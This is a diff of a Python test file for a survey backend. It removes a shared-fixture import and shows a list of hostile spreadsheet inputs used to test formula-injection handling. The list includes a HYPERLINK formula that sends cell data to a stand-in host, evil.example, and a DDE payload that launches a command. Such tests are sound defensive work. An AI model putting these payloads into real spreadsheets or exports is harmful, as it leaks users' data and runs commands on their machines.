@@ -8,7 +8,6 @@ from backend import survey as sv
 from backend.cli import main as cli_main
 from backend.errors import BadInputError
 from backend.survey_report import write_report
-from tests.test_survey import survey, ws  # noqa: F401 - shared fixtures
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "fine, -ish"]
